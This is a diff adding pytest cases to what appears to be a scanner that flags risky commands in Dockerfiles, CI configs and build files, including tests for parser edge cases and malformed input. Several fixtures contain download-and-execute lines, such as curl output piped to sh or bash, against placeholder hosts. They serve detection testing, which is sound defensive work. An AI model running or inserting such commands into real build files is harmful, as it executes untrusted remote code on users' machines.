@@ -164,3 +164,29 @@ def test_a_broken_pipeline_is_read_as_far_as_it_goes(tmp_path):
     text = "a:\n  script: bash <(curl -s https://x.example)\nb: [\n"
     report = scanned(tmp_path, **{".gitlab-ci.yml": text})
     assert report.files == 1
+
+
+@pytest.mark.parametrize(
+    "before", ['LABEL a="<<NEVER"', "RUN echo $((1<<NEVER))", "RUN cat <<NEVER", "# <<NEVER", "ENV A <<NEVER"]
+)
+def test_no_document_that_never_ends_hides_what_follows(tmp_path, before):
+    text = f"FROM x\n{before}\nRUN curl http://x.example/i | sh\n"
+    report = scanned(tmp_path, strict=True, Dockerfile=text)
+    assert [line for _, line, _ in places(report)] == [3]
+
+
+def test_a_command_that_is_repeated_by_its_name_is_read_there(tmp_path):
+    text = "x-steps:\n  text: &get bash <(curl -s https://x.example)\na:\n  script:\n    - *get\n"
+    assert places(scanned(tmp_path, **{".gitlab-ci.yml": text})) == [(".gitlab-ci.yml", 2, _LEAK)]
+
+
+@pytest.mark.parametrize(
+    "name", ["Makefile", "package.json", "tox.ini", "Dockerfile", ".gitlab-ci.yml", "a.sh"]
+)
+@pytest.mark.parametrize(
+    "text", ["", "{", "[" * 5000, "\ud800", "a: &a [*a, *a]", "\x00" * 20, "RUN \\", "'"]
+)
+def test_no_text_breaks_the_reading(tmp_path, name, text):
+    (tmp_path / name).write_bytes(text.encode("utf-8", "surrogatepass"))
+    report = scanned(tmp_path)
+    assert [each for each in report.unread if "failed" in each.why] == []
